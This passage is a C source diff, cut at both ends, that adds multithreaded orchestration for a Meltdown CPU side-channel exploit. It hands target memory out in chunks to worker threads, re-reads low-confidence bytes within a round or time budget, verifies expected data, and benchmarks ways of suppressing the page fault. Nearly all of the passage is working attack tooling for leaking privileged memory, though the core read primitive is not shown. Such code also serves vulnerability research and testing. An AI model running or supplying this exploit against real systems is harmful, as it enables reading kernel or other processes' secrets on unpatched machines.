+	STATS_PRINT(sum, flush_cycles);
+	STATS_PRINT(sum, read_cycles);
+	STATS_PRINT(sum, scan_cycles);
+	STATS_PRINT(sum, calibrations);
+	STATS_PRINT(sum, cal_cycles);
+#undef STATS_PRINT
+}
+#endif
+
+/*
+ * Perform the Meltdown attack on one or more segments using all worker
+ * contexts.
+ *
+ * Each segment is split into chunks of ATK_CHUNK bytes which are handed
+ * out to the workers on a first-come, first-served basis.  If no output
+ * buffer was provided for a segment, we pass each of its chunks to
+ * meltdown_output() as soon as it and all the chunks that precede it
+ * have been read.  With more than one segment, the output is labeled
+ * with the target address rather than the offset.
+ */
+#define ATK_CHUNK	16
+struct meltdown_chunk {
+	const struct meltdown_iov *iov;	/* segment */
+	uint8_t		*buf;		/* segment output buffer */
+	size_t		 off;		/* offset within segment */
+	size_t		 len;		/* length of chunk */
+};
+
+struct meltdown_job {
+	struct meltdown_chunk *chunks;
+	size_t		 nchunks;
+	unsigned int	 rounds;
+	size_t		 next;		/* next chunk to hand out */
+	uint8_t		*done;		/* per-chunk completion flags */
+	pthread_mutex_t	 mtx;
+	pthread_cond_t	 cv;
+};
+
+static void
+meltdown_attack_worker(struct meltdown_ctx *ctx, void *arg)
+{
+	struct meltdown_job *job = arg;
+	struct meltdown_chunk *ch;
+	size_t c;
+
+	for (;;) {
+		pthread_mutex_lock(&job->mtx);
+		c = job->next++;
+		pthread_mutex_unlock(&job->mtx);
+		if (c >= job->nchunks)
+			break;
+		ch = &job->chunks[c];
+		meltdown_ctx_attack(ctx, (const uint8_t *)ch->iov->target +
+		    ch->off, ch->buf + ch->off, ch->iov->hist != NULL ?
+		    ch->iov->hist + ch->off : NULL, ch->len, job->rounds);
+		pthread_mutex_lock(&job->mtx);
+		job->done[c] = 1;
+		pthread_cond_broadcast(&job->cv);
+		pthread_mutex_unlock(&job->mtx);
+	}
+}
+
+void
+meltdown_attack_v(const struct meltdown_iov *iov, unsigned int iovcnt,
+    unsigned int rounds)
+{
+	struct meltdown_job job;
+	struct meltdown_thread *threads;
+	struct meltdown_chunk *ch;
+	struct sigaction osa;
+	struct timespec t0;
+	uint8_t **bufs;
+	uint64_t nrounds, ntainted;
+	size_t c, len, off;
+	unsigned int i;
+	double t;
+
+	memset(&job, 0, sizeof job);
+	for (len = 0, i = 0; i < iovcnt; ++i) {
+		len += iov[i].len;
+		job.nchunks += (iov[i].len + ATK_CHUNK - 1) / ATK_CHUNK;
+	}
+	if (iovcnt == 1)
+		VERBOSEF("reading %zu bytes from %p", len, iov[0].target);
+	else
+		VERBOSEF("reading %zu bytes in %u segments", len, iovcnt);
+	if (meltdown_minrounds > 0)
+		VERBOSEF(" with %u to %u rounds\n", meltdown_minrounds,
+		    rounds);
+	else
+		VERBOSEF(" with %u rounds\n", rounds);
+	if (len == 0)
+		return;
+	job.rounds = rounds;
+	if ((bufs = calloc(iovcnt, sizeof *bufs)) == NULL ||
+	    (job.chunks = calloc(job.nchunks, sizeof *job.chunks)) == NULL ||
+	    (job.done = calloc(job.nchunks, 1)) == NULL)
+		err(1, "calloc()");
+	for (c = 0, i = 0; i < iovcnt; ++i) {
+		if ((bufs[i] = iov[i].buf) == NULL && iov[i].len > 0 &&
+		    (bufs[i] = malloc(iov[i].len)) == NULL)
+			err(1, "malloc()");
+		for (off = 0; off < iov[i].len; off += ATK_CHUNK, ++c) {
+			ch = &job.chunks[c];
+			ch->iov = &iov[i];
+			ch->buf = bufs[i];
+			ch->off = off;
+			ch->len = iov[i].len - off < ATK_CHUNK ?
+			    iov[i].len - off : ATK_CHUNK;
 		}
 	}
-	/* output any leftovers */
-	if (buf == NULL) {
-		if (i % 16 > 0)
-			hexdump(i - i % 16, line, i % 16);
+	pthread_mutex_init(&job.mtx, NULL);
+	pthread_cond_init(&job.cv, NULL);
+	nrounds = meltdown_nrounds();
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	meltdown_sigsegv(&osa);
+	threads = meltdown_start(nworkers, meltdown_attack_worker, &job);
+	/* output chunks in order as they are completed */
+	for (c = 0; c < job.nchunks; ++c) {
+		ch = &job.chunks[c];
+		if (ch->iov->buf != NULL)
+			continue;
+		pthread_mutex_lock(&job.mtx);
+		while (!job.done[c])
+			pthread_cond_wait(&job.cv, &job.mtx);
+		pthread_mutex_unlock(&job.mtx);
+		meltdown_output(iovcnt > 1 ?
+		    (uintptr_t)ch->iov->target + ch->off : ch->off,
+		    ch->buf + ch->off, ch->len);
 	}
-	signal(SIGSEGV, sigsegv);
+	meltdown_wait(threads, nworkers);
+	meltdown_sigrestore(&osa);
+	t = meltdown_elapsed(&t0);
+	nrounds = meltdown_nrounds() - nrounds;
+	for (ntainted = 0, i = 0; i < nworkers; ++i) {
+		ntainted += workers[i]->ntainted;
+		workers[i]->ntainted = 0;
+	}
+	if (tracef != NULL)
+		meltdown_trace_flush();
+	VERBOSEF("%llu rounds in %.3f s (%.1f rounds/byte, %.0f rounds/s, "
+	    "%.0f bytes/s)\n", (unsigned long long)nrounds, t,
+	    (double)nrounds / len, nrounds / t, len / t);
+	if (ntainted > 0)
+		VERBOSEF("%llu tainted rounds dropped\n",
+		    (unsigned long long)ntainted);
+	pthread_cond_destroy(&job.cv);
+	pthread_mutex_destroy(&job.mtx);
+	for (i = 0; i < iovcnt; ++i)
+		if (iov[i].buf == NULL)
+			free(bufs[i]);
+	free(bufs);
+	free(job.done);
+	free(job.chunks);
+}
+
+/*
+ * Perform the Meltdown attack on a single range.
+ */
+void
+meltdown_attack(const void *target, void *buf, struct meltdown_byte *hist,
+    size_t len, unsigned int rounds)
+{
+	struct meltdown_iov iov;
+
+	iov.target = target;
+	iov.buf = buf;
+	iov.hist = hist;
+	iov.len = len;
+	meltdown_attack_v(&iov, 1, rounds);
+}
+
+/*
+ * A byte the scheduler is not yet confident about, and comparison
+ * functions to sort them either weakest first or by offset.
+ */
+struct meltdown_weak {
+	float		 conf;
+	size_t		 off;
+};
+
+static int
+meltdown_weak_cmp(const void *ap, const void *bp)
+{
+	const struct meltdown_weak *a = ap, *b = bp;
+
+	if (a->conf != b->conf)
+		return (a->conf < b->conf ? -1 : 1);
+	return (a->off < b->off ? -1 : a->off > b->off);
+}
+
+static int
+meltdown_off_cmp(const void *ap, const void *bp)
+{
+	const struct meltdown_weak *a = ap, *b = bp;
+
+	return (a->off < b->off ? -1 : a->off > b->off);
+}
+
+/*
+ * Perform the Meltdown attack within a budget of either rounds or time,
+ * or both (zero means no limit).  We start with a cheap pass of the given
+ * number of rounds over the entire range, then repeatedly double the
+ * number of rounds and spend them on the bytes we are least confident
+ * about, for as long as the budget allows or until every byte is
+ * confident.  The time budget is converted to rounds using the rate
+ * observed so far.
+ *
+ * As with meltdown_attack(), the result is output if buf is NULL, and
+ * the caller may provide per-byte state, which is where to find out
+ * which bytes are solid and which are not.
+ */
+#define SCHED_MAXROUNDS	(1U << 20)
+void
+meltdown_schedule(const void *targetp, void *bufp, struct meltdown_byte *hist,
+    size_t len, unsigned int rounds, uint64_t maxrounds, double maxtime)
+{
+	struct meltdown_byte *mb;
+	struct meltdown_weak *weak;
+	struct meltdown_iov *iov;
+	struct timespec t0;
+	const uint8_t *target = targetp;
+	uint8_t *buf;
+	uint64_t budget, cost, nrounds, r0, tb;
+	unsigned int iovcnt, next;
+	size_t i, n, nweak;
+	double t;
+
+	if (len == 0)
+		return;
+	if ((buf = bufp) == NULL && (buf = malloc(len)) == NULL)
+		err(1, "malloc()");
+	if ((mb = hist) == NULL && (mb = calloc(len, sizeof *mb)) == NULL)
+		err(1, "calloc()");
+	if ((weak = calloc(len, sizeof *weak)) == NULL ||
+	    (iov = calloc(len, sizeof *iov)) == NULL)
+		err(1, "calloc()");
+	if (rounds == 0)
+		rounds = 1;
+	r0 = meltdown_nrounds();
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	meltdown_attack(target, buf, mb, len, rounds);
+	for (next = rounds * 2; next <= SCHED_MAXROUNDS; next *= 2) {
+		/* how many rounds can we still afford? */
+		nrounds = meltdown_nrounds() - r0;
+		t = meltdown_elapsed(&t0);
+		budget = UINT64_MAX;
+		if (maxrounds > 0)
+			budget = nrounds < maxrounds ? maxrounds - nrounds : 0;
+		if (maxtime > 0) {
+			tb = t < maxtime ? (maxtime - t) * nrounds / t : 0;
+			if (tb < budget)
+				budget = tb;
+		}
+		if (budget == 0)
+			break;
+		/* find the weak bytes and sort them, weakest first */
+		for (n = nweak = 0, i = 0; i < len; ++i) {
+			if (mb[i].conf > 1.0)
+				continue;
+			nweak++;
+			if (mb[i].rounds < next) {
+				weak[n].conf = mb[i].conf;
+				weak[n].off = i;
+				n++;
+			}
+		}
+		if (nweak == 0)
+			break;
+		if (n == 0)
+			continue;
+		qsort(weak, n, sizeof *weak, meltdown_weak_cmp);
+		/* take as many as we can afford, but at least one */
+		for (cost = 0, i = 0; i < n; ++i) {
+			cost += (uint64_t)(next - mb[weak[i].off].rounds) *
+			    workers[0]->ndigits;
+			if (cost > budget && i > 0)
+				break;
+		}
+		n = i;
+		/* coalesce adjacent bytes into segments and read them */
+		qsort(weak, n, sizeof *weak, meltdown_off_cmp);
+		for (iovcnt = 0, i = 0; i < n; ++i) {
+			if (iovcnt > 0 && weak[i].off ==
+			    weak[i - 1].off + 1) {
+				iov[iovcnt - 1].len++;
+				continue;
+			}
+			iov[iovcnt].target = target + weak[i].off;
+			iov[iovcnt].buf = buf + weak[i].off;
+			iov[iovcnt].hist = mb + weak[i].off;
+			iov[iovcnt].len = 1;
+			iovcnt++;
+		}
+		VERBOSEF("%zu of %zu bytes still weak, re-reading %zu\n",
+		    nweak, len, n);
+		meltdown_attack_v(iov, iovcnt, next);
+	}
+	for (nweak = 0, i = 0; i < len; ++i)
+		if (!(mb[i].conf > 1.0))
+			nweak++;
+	VERBOSEF("%zu of %zu bytes confident after %llu rounds in %.3f s\n",
+	    len - nweak, len, (unsigned long long)(meltdown_nrounds() - r0),
+	    meltdown_elapsed(&t0));
+	if (bufp == NULL)
+		meltdown_output(0, buf, len);
+	free(iov);
+	free(weak);
+	if (hist == NULL)
+		free(mb);
+	if (bufp == NULL)
+		free(buf);
+}
+
+/*
+ * Test whether the target matches the expected data using all worker
+ * contexts, each of which is given an equal share of the range.  Returns
+ * the average score as described for meltdown_ctx_verify(), weighted by
+ * the number of non-zero digits in each share.
+ */
+struct meltdown_vfy {
+	const uint8_t	*target;
+	const uint8_t	*expected;
+	size_t		 len;
+	unsigned int	 rounds;
+	double		 score[CPU_MAX];
+	size_t		 weight[CPU_MAX];
+};
+
+static void
+meltdown_verify_worker(struct meltdown_ctx *ctx, void *arg)
+{
+	struct meltdown_vfy *vfy = arg;
+	size_t i, len, off, share;
+	unsigned int k, w;
+
+	for (w = 0; workers[w] != ctx; ++w)
+		/* nothing */ ;
+	share = (vfy->len + nworkers - 1) / nworkers;
+	if ((off = w * share) >= vfy->len)
+		return;
+	len = vfy->len - off < share ? vfy->len - off : share;
+	vfy->score[w] = meltdown_ctx_verify(ctx, vfy->target + off,
+	    vfy->expected + off, len, vfy->rounds);
+	for (i = 0; i < len; ++i)
+		for (k = 0; k < ctx->ndigits; ++k)
+			if ((vfy->expected[off + i] >> (k * ctx->dbits)) &
+			    (ctx->nlines - 1))
+				vfy->weight[w]++;
+}
+
+double
+meltdown_verify(const void *targetp, const void *expectedp, size_t len,
+    unsigned int rounds)
+{
+	struct meltdown_vfy *vfy;
+	struct sigaction osa;
+	struct timespec t0;
+	double score;
+	size_t weight;
+	unsigned int i;
+
+	if ((vfy = calloc(1, sizeof *vfy)) == NULL)
+		err(1, "calloc()");
+	vfy->target = targetp;
+	vfy->expected = expectedp;
+	vfy->len = len;
+	vfy->rounds = rounds;
+	clock_gettime(CLOCK_MONOTONIC, &t0);
+	meltdown_sigsegv(&osa);
+	meltdown_wait(meltdown_start(nworkers, meltdown_verify_worker, vfy),
+	    nworkers);
+	meltdown_sigrestore(&osa);
+	for (score = 0.0, weight = 0, i = 0; i < nworkers; ++i) {
+		score += vfy->score[i] * vfy->weight[i];
+		weight += vfy->weight[i];
+	}
+	score = weight > 0 ? score / weight : 0.0;
+	VERBOSEF("verified %zu bytes at %p with %u rounds in %.3f s: "
+	    "score %.3f\n", len, targetp, rounds, meltdown_elapsed(&t0), score);
+	free(vfy);
+	return (score);
+}
+
+/*
+ * Measure and print the round rate achieved by each fault suppression
+ * method against the first byte of the target, using the first worker
+ * context.
+ */
+#define CMP_ROUNDS	4096
+static void
+meltdown_compare_worker(struct meltdown_ctx *ctx, void *arg)
+{
+	uint32_t lat[PROBE_NLINES];
+	struct timespec t0;
+	meltdown_suppress osup;
+	unsigned int r;
+	double t;
+
+	osup = ctx->suppress;
+	for (ctx->suppress = 0; ctx->suppress < SUPPRESS_MAX; ctx->suppress++) {
+		clock_gettime(CLOCK_MONOTONIC, &t0);
+		for (r = 0; r < CMP_ROUNDS; ++r)
+			meltdown_ctx_round(ctx, arg, 1, 0, NULL, 0, lat);
+		t = meltdown_elapsed(&t0);
+		VERBOSEF("%-8s %10.0f rounds/s%s\n",
+		    suppress_names[ctx->suppress], CMP_ROUNDS / t,
+		    ctx->suppress == osup ? " (selected)" : "");
+	}
+	ctx->suppress = osup;
+}
+
+void
+meltdown_compare(const void *target)
+{
+	struct sigaction osa;
+
+	meltdown_sigsegv(&osa);
+	meltdown_wait(meltdown_start(1, meltdown_compare_worker,
+	    (void *)(uintptr_t)target), 1);
+	meltdown_sigrestore(&osa);
 }